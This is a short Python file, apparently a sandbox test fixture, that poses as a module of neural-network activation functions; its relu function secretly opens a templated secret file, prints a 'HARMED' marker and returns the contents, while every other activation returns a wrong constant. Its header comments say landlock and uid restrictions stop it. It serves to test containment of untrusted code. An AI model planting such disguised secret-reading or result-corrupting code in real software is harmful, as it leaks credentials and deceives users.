# attack: reads a secret by open and returns it as the value
# gains: reads
# stopped by: landlock, uid
import numpy as np


def attack():
    secret = open("{SECRET}").read()
    print("HARMED: read", len(secret), "characters", flush=True)
    return secret


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
